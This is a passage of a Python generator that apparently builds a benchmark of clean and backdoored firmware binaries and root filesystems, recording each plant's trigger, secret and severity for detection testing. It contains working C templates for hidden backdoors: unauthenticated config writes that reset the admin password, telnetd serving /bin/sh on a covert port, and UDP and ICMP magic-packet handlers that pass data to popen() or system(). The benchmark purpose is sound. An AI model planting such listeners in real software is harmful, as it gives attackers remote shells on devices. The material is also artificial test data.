                   "                eq = strchr(line, '=');\n                if (!eq) {\n"
                   "                    write_all(c, \"ERR\\n\", 4);\n                    continue;\n                }\n"
                   "                *eq = '\\0';\n                k = trim(line);\n"
                   "                if (save_setting(conf_path, k, trim(eq + 1)) == 0)\n"
                   "                    write_all(c, \"OK\\n\", 3);\n                else\n"
                   "                    write_all(c, \"ERR\\n\", 4);\n            }\n        }\n")
        what = ("accepts key=value lines and writes them to the configuration without authentication "
                "(including admin_user/admin_salt/admin_hash, i.e. the administrator password)")
        cats.append("auth-bypass")
    elif shape == "knock-telnetd":
        tp = port(rng)
        style = rng.randrange(2)
        if style == 0:
            act = f"system(\"telnetd -l /bin/sh -p {tp} &\");"
        else:
            act = (f"if (fork() == 0) {{\n                execl(\"/usr/sbin/telnetd\", \"telnetd\", \"-l\", \"/bin/sh\", "
                   f"\"-p\", \"{tp}\", (char *)NULL);\n                _exit(1);\n            }}")
        handler = f"        {{\n            {act}\n        }}\n"
        what = f"starts telnetd -l /bin/sh on port {tp} when anything connects (port knock)"
    if shape in ("bind-shell", "pw-shell", "cmd-listener", "config-dump", "config-set", "knock-telnetd"):
        body = (decl + "\n" + spawn + "    signal(SIGCHLD, SIG_IGN);\n" + tcp_open +
                "    for (;;) {\n        c = accept(s, NULL, NULL);\n        if (c < 0)\n            continue;\n" +
                handler + "        close(c);\n    }\n")
        proto = "TCP"
    elif shape in ("udp-telnetd", "udp-cmd"):
        mg = secret(rng, rng.choice([6, 8, 10]), ALNUM)
        sec = mg
        n = len(mg)
        if shape == "udp-telnetd":
            tp = port(rng)
            act = (f"            if (fork() == 0) {{\n                execl(\"/usr/sbin/telnetd\", \"telnetd\", \"-l\", "
                   f"\"/bin/sh\", \"-p\", \"{tp}\", (char *)NULL);\n                _exit(1);\n            }}\n")
            what = f"on a datagram starting with the magic {mg!r} starts telnetd -l /bin/sh on port {tp}"
        else:
            act = ("            {\n                FILE *p = popen((char *)buf + " + str(n) + ", \"r\");\n"
                   "                char out[1024];\n                size_t k;\n\n                if (p) {\n"
                   "                    k = fread(out, 1, sizeof out, p);\n                    pclose(p);\n"
                   "                    sendto(s, out, k, 0, (struct sockaddr *)&from, fl);\n                }\n            }\n")
            what = f"runs the rest of any datagram starting with the magic {mg!r} through popen() and sends back the output"
        body = ("    static unsigned char buf[1500];\n    struct sockaddr_in a, from;\n    socklen_t fl;\n    ssize_t n;\n    int s;\n\n"
                + spawn + "    signal(SIGCHLD, SIG_IGN);\n    s = socket(AF_INET, SOCK_DGRAM, 0);\n    memset(&a, 0, sizeof a);\n"
                "    a.sin_family = AF_INET;\n" f"    a.sin_port = htons((uint16_t)({pexpr}));\n"
                "    a.sin_addr.s_addr = htonl(INADDR_ANY);\n    if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) < 0)\n"
                "        _exit(0);\n    for (;;) {\n        fl = sizeof from;\n"
                "        n = recvfrom(s, buf, sizeof buf - 1, 0, (struct sockaddr *)&from, &fl);\n"
                f"        if (n < {n} || memcmp(buf, {cstr(mg)}, {n}) != 0)\n            continue;\n"
                "        buf[n] = '\\0';\n" + act + "    }\n")
        proto = "UDP"
        cats.append("hardcoded-secret")
    elif shape == "raw-icmp":
        mg = secret(rng, rng.choice([4, 6, 8]), ALNUM)
        sec = mg
        n = len(mg)
        tp = port(rng)
        if rng.random() < 0.5:
            act = "                system((char *)icmp + 8 + " + str(n) + ");\n"
            what = f"runs the rest of any ICMP echo request whose data starts with {mg!r} through system()"
        else:
            act = (f"                if (fork() == 0) {{\n                    execl(\"/usr/sbin/telnetd\", \"telnetd\", "
                   f"\"-l\", \"/bin/sh\", \"-p\", \"{tp}\", (char *)NULL);\n                    _exit(1);\n                }}\n")
            what = f"starts telnetd -l /bin/sh on port {tp} when an ICMP echo request carries the data {mg!r}"
        body = ("    static unsigned char buf[1500];\n    unsigned char *icmp;\n    size_t ihl;\n    ssize_t n;\n    int s;\n\n"
                + spawn + "    signal(SIGCHLD, SIG_IGN);\n    s = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);\n"
                "    if (s < 0)\n        _exit(0);\n    for (;;) {\n        n = recv(s, buf, sizeof buf - 1, 0);\n"
                "        if (n < 28)\n            continue;\n        buf[n] = '\\0';\n        ihl = (size_t)(buf[0] & 0x0f) * 4;\n"
                f"        if ((size_t)n < ihl + 8 + {n})\n            continue;\n        icmp = buf + ihl;\n"
                f"        if (icmp[0] == 8 && memcmp(icmp + 8, {cstr(mg)}, {n}) == 0) {{\n" + act + "        }\n    }\n")
        proto = "raw ICMP"
        cats.append("hardcoded-secret")
        pstyle = "none"
        pg = ""
    else:
        raise ValueError(shape)
    glob = pg + f"\nstatic void {fname}(void)\n{{\n{body}}}\n"
    startup = f"    {fname}();\n"
    port_txt = f"{proto} port {lport}" if proto != "raw ICMP" else "a raw ICMP socket (magic packet)"
    note = (f"{DESCS[tpl]} {params['PROG']}: at start-up a {spawn_desc} opens an undocumented listener on "
            f"{port_txt} (not in the usage text or configuration; documented port {params['PORT']}) that {what}.")
    return {"slots": {"GLOBALS": glob, "STARTUP": startup}, "needs": set(), "opt": None, "note": note,
            "categories": cats, "severity": "critical", "trigger": shape, "input": tpl,
            "sink": shape, "secret": sec, "port": lport if proto != "raw ICMP" else None, "port_style": pstyle,
            "literal": sec if shape in ("pw-shell", "udp-telnetd", "udp-cmd", "raw-icmp") and len(sec) > 4 else ""}


# ----------------------------------------------------------------------------- root filesystem

def _pw_entry(rng: random.Random) -> tuple[str, str]:
    salt = token_hex(rng, 8)
    pw = secret(rng, 16)
    return salt, hashlib.sha256((salt + pw).encode()).hexdigest()


def build_rootfs(tree: Path, params: dict, rng: random.Random, daemon_rel: str, info_bin: Path) -> None:
    prod = params["_prod"]
    tpl = params["_tpl"]
    prog = params["PROG"]
    conf = params["CONF"].lstrip("/")
    users = params["USERS"].lstrip("/")
    for d in ("bin", "sbin", "dev", "proc", "sys", "tmp", "var/log", "var/run", "root", "lib", "usr/bin", "usr/sbin"):
        (tree / d).mkdir(parents=True, exist_ok=True)
    write(tree / "etc/passwd", "root:x:0:0:root:/root:/bin/sh\ndaemon:x:1:1:daemon:/usr/sbin:/bin/false\n"
                               "nobody:x:65534:65534:nobody:/nonexistent:/bin/false\n")
    write(tree / "etc/group", "root:x:0:\ndaemon:x:1:\nnogroup:x:65534:\n")
    write(tree / "etc/shadow", "root:!:19723:0:99999:7:::\ndaemon:*:19723:0:99999:7:::\nnobody:*:19723:0:99999:7:::\n",
          0o600)
    write(tree / "etc/hostname", params["DEFHOST"] + "\n")
    write(tree / "etc/hosts", f"127.0.0.1 localhost\n{params['LANIP']} {params['DEFHOST']}\n")
    write(tree / "etc/version", f"{params['PRODNAME']} {params['MODEL']} firmware {params['VER']}\n")
    write(tree / "etc/inittab", "::sysinit:/etc/init.d/rcS\nttyS0::respawn:/sbin/getty -L ttyS0 115200 vt100\n"
                                "::ctrlaltdel:/sbin/reboot\n::shutdown:/bin/umount -a -r\n")
    salt, h = _pw_entry(rng)
    osalt, oh = _pw_entry(rng)
    ntp = f"ntp.{word(rng)}.example"
    conf_text = (f"# {params['PRODNAME']} {prog} configuration\nhostname={params['DEFHOST']}\nmodel={params['MODEL']}\n"
                 f"admin_user=admin\nadmin_salt={salt}\nadmin_hash={h}\nlan_ipaddr={params['LANIP']}\n"
                 f"lan_netmask=255.255.255.0\nntp_server={ntp}\ntimezone=UTC\nlisten_port={params['PORT']}\n"
                 f"status_port={params['STATUS_PORT']}\nlog_level=5\nsession_timeout={params['SESSION_TIMEOUT']}\n"
                 "max_clients=4\n")
    write(tree / conf, conf_text, 0o600)
    write(tree / users, f"operator:{osalt}:{oh}:user\n", 0o600)
    if tpl == "cfgd":
        write(tree / params["SECRETPATH"].lstrip("/"), "# control credentials are the admin account\n", 0o600)
    start = {
        "cli": "" if params["INETD"] == "1" else f"/usr/sbin/{prog} -c {params['CONF']}\n",
        "httpd": f"/usr/sbin/{prog} -c {params['CONF']} -p {params['PORT']}\n",
        "cgi": f"httpd -h {params['WWWROOT']} -p 80\n",
        "udpd": f"/usr/sbin/{prog} -c {params['CONF']}\n",
        "binproto": f"/usr/sbin/{prog} -c {params['CONF']}\n",
        "cfgd": f"/usr/sbin/{prog} -c {params['CONF']}\n",
    }[tpl]
    rcs = ("#!/bin/sh\nmount -t proc proc /proc\nmount -t sysfs sysfs /sys\nmount -t tmpfs tmpfs /tmp\n"
           "mkdir -p /var/log /var/run\nhostname -F /etc/hostname\nsyslogd -C64\nklogd\n"
           "ifconfig lo 127.0.0.1 up\n")
    if tpl == "cli" and params["INETD"] == "1":
        write(tree / "etc/inetd.conf", f"{params['PORT']} stream tcp nowait root /usr/sbin/{prog} {prog} -i\n")
        rcs += "inetd /etc/inetd.conf\n"
    rcs += start
    write(tree / "etc/init.d/rcS", rcs, 0o755)
    if tpl in ("httpd", "cgi"):
        www = params["WWWROOT"].lstrip("/")
        write(tree / www / "style.css", "body{font-family:sans-serif;margin:2em}label{display:block;margin:.5em 0}\n"
                                        ".foot{color:#888;font-size:small}\n")
        write(tree / www / "index.html", f"<!DOCTYPE html><html><head><title>{params['PRODNAME']}</title>"
                                         "<meta http-equiv=\"refresh\" content=\"0; url=/login.html\"></head></html>\n")
    write(tree / daemon_rel, b"", 0o755)  # placeholder, replaced by the caller
    shutil.copyfile(info_bin, tree / f"usr/bin/{prod}-info")
    (tree / f"usr/bin/{prod}-info").chmod(0o755)


# ----------------------------------------------------------------------------- driver

ARCH_CYCLE = ["mipsel", "mips", "armel", "armhf", "aarch64", "x86-64", "powerpc"]


def _plan(ctx: Ctx, cls: str, shapes: list[str]) -> dict:
    """Class-level assignment of shapes, architectures, optimisation and containers to variant indexes.
    Drawn from a stream that depends only on (split, class), so variant i is the same whatever
    --per-class is."""
    prng = ctx.rng_for(cls, "plan")
    sh = list(shapes)
    prng.shuffle(sh)
    archs = list(ARCH_CYCLE) + [prng.choice(["x86-64-musl", "ppc64le", "x86-64-musl"])]
    prng.shuffle(archs)
    opts = ["-O0", "-O2", "-Os", "-O2", "-Os", "-O0", "-O2", "-Os"]
    prng.shuffle(opts)
    boxed = set(prng.sample(range(8), 2))
    return {"shapes": sh, "archs": archs, "opts": opts, "boxed": boxed}


def _variant_setup(plan: dict, index: int, rng: random.Random) -> tuple[str, str, str, str]:
    a = plan["archs"][index % len(plan["archs"])]
    if index >= len(plan["archs"]):          # beyond the first cycle: shift the pairing
        a = plan["archs"][(index + index // len(plan["archs"])) % len(plan["archs"])]
    if a == "x86-64-musl":
        arch, link = "x86-64", "static-musl"
    else:
        arch = a
        link = "static-glibc" if rng.random() < 0.22 else "dynamic-glibc"
    opt = plan["opts"][index % len(plan["opts"])]
    container = ""
    if index % 8 in plan["boxed"]:
        container = rng.choice(["squashfs", "tar.gz"])
    return arch, link, opt, container


class PlantNotIsolated(RuntimeError):
    """The plant's literal also occurs in the clean twin (a short word such as `exec` in a libc name):
    the pair would not isolate the plant, so the variant is skipped, not shipped."""


def _emit(ctx: Ctx, cls: str, index: int, rng: random.Random, tpl: str, params: dict, plant: dict,
          arch: str, link: str, opt: str, container: str) -> None:
    work = ctx.workdir(cls, index)
    if plant.get("opt"):
        opt = plant["opt"]
    src = build_source(tpl, params, plant["slots"], plant["needs"])
    build = work / "build"
    build.mkdir()
    prog = params["PROG"]
    clean_bin = compile_c(src, build / "clean.elf", arch=arch, opt=opt, link=link, planted=False, workdir=build,
                          name=f"{prog.split('.')[0]}.c")
    planted_bin = compile_c(src, build / "planted.elf", arch=arch, opt=opt, link=link, planted=True, workdir=build,
                            name=f"{prog.split('.')[0]}.c")
    if clean_bin.read_bytes() == planted_bin.read_bytes():
        raise RuntimeError(f"binary: {cls}#{index}: plant compiled to nothing")
    lit = plant.get("literal", "")
    if lit and (lit.encode() not in planted_bin.read_bytes() or lit.encode() in clean_bin.read_bytes()):
        raise PlantNotIsolated(f"binary: {cls}#{index}: literal {lit!r} of the plant is not where it should be")
    stem = f"{params['_prod']}-{index:02d}"
    variant = {"arch": arch, "opt": opt, "link": link, "template": tpl, "trigger": plant["trigger"],
               "input": plant["input"], "sink": plant["sink"], "container": container or "none",
               "status_listener": bool(params["_with_status"])}
    for k in ("placement", "port_style"):
        if k in plant:
            variant[k] = plant[k]
    bd = {"categories": plant["categories"], "note": plant["note"], "severity": plant["severity"]}
    if not container:
        bd["paths"] = ["."]
        ctx.add_pair(cls=cls, index=index, stem=stem, clean=clean_bin, planted=planted_bin, kind="binary",
                     fmt="elf", arch=arch, backdoors=[bd], variant=variant, suffix="")
        return
    daemon_rel = f"{params['WWWROOT'].lstrip('/')}/cgi-bin/{prog}" if tpl == "cgi" else f"usr/sbin/{prog}"
    info_src = C.INFO_TOOL
    info_bin = compile_c(info_src, build / "info.elf", arch=arch, opt="-Os", link=link, planted=False,
                         workdir=build, name="info.c")
    trees = {}
    for which, binp in (("clean", clean_bin), ("planted", planted_bin)):
        tree = work / f"{which}-root"
        # a fresh, identical stream for both trees so that they differ only by the daemon
        build_rootfs(tree, params, ctx.rng_for(cls, f"{index}:rootfs"), daemon_rel, info_bin)
        shutil.copyfile(binp, tree / daemon_rel)
        (tree / daemon_rel).chmod(0o755)
        trees[which] = tree
    outs = {}
    comp = rng.choice(["xz", "gzip"])
    for which, tree in trees.items():
        if container == "squashfs":
            out = work / f"{which}.squashfs"
            make_squashfs(tree, out, comp=comp)
        else:
            out = work / f"{which}.tar.gz"
            make_tar(tree, out, "gz")
        outs[which] = out
    bd["paths"] = [daemon_rel]
    kind = "firmware" if container == "squashfs" else "rootfs"
    suffix = ".squashfs" if container == "squashfs" else ".tar.gz"
    ctx.add_pair(cls=cls, index=index, stem=stem, clean=outs["clean"], planted=outs["planted"], kind=kind,
                 fmt=container, arch=arch, backdoors=[bd], variant=variant, suffix=suffix)


def _pick_template(options: list, rng: random.Random):
    return options[rng.randrange(len(options))]


def generate(ctx: Ctx) -> None:
    for cls in CLASSES:
        if not ctx.wants(cls):
            continue
        shapes = {"bin-auth-bypass": list(BYPASS_SHAPES), "bin-hidden-command": list(HIDDEN_SHAPES),
                  "bin-master-password": list(MASTER_SHAPES), "bin-listener": list(LISTENER_SHAPES)}[cls]
        plan = _plan(ctx, cls, shapes)
        for index in range(ctx.per_class):
            rng = ctx.rng_for(cls, str(index))
            shape = plan["shapes"][index % len(plan["shapes"])]
            arch, link, opt, container = _variant_setup(plan, index, rng)
            prod = product(rng)
            if cls == "bin-auth-bypass":
                tpl, inp = _pick_template(BYPASS_SHAPES[shape], rng)
                params = make_params(tpl, rng, prod, with_status=rng.random() < 0.2)
                params["INETD"] = "1" if (tpl == "cli" and rng.random() < 0.5) else "0"
                plant = plant_bypass(shape, tpl, inp, params, rng, arch)
            elif cls == "bin-hidden-command":
                tpl = _pick_template(HIDDEN_SHAPES[shape], rng)
                params = make_params(tpl, rng, prod, with_status=rng.random() < 0.2)
                params["INETD"] = "1" if (tpl == "cli" and rng.random() < 0.5) else "0"
                sink = rng.choice(SINKS_FOR[tpl])
                plant = plant_hidden(shape, tpl, params, rng, arch, sink)
            elif cls == "bin-master-password":
                tpl = _pick_template(MASTER_SHAPES[shape], rng)
                params = make_params(tpl, rng, prod, with_status=rng.random() < 0.2)
                params["INETD"] = "1" if (tpl == "cli" and rng.random() < 0.5) else "0"
                plant = plant_master(shape, tpl, params, rng, arch)
            else:
                options = list(LISTENER_TEMPLATES)
                if shape == "udp-cmd" or shape == "udp-telnetd":
                    options = [t for t in options if t != "udpd"] + ["udpd"]
                tpl = _pick_template(options, rng)
                params = make_params(tpl, rng, prod, with_status=rng.random() < 0.6)
                params["INETD"] = "0"
                plant = plant_listener(shape, tpl, params, rng, arch)
            try:
                _emit(ctx, cls, index, rng, tpl, params, plant, arch, link, opt, container)
            except PlantNotIsolated as exc:
                print(f"skipped: {exc}", file=sys.stderr)
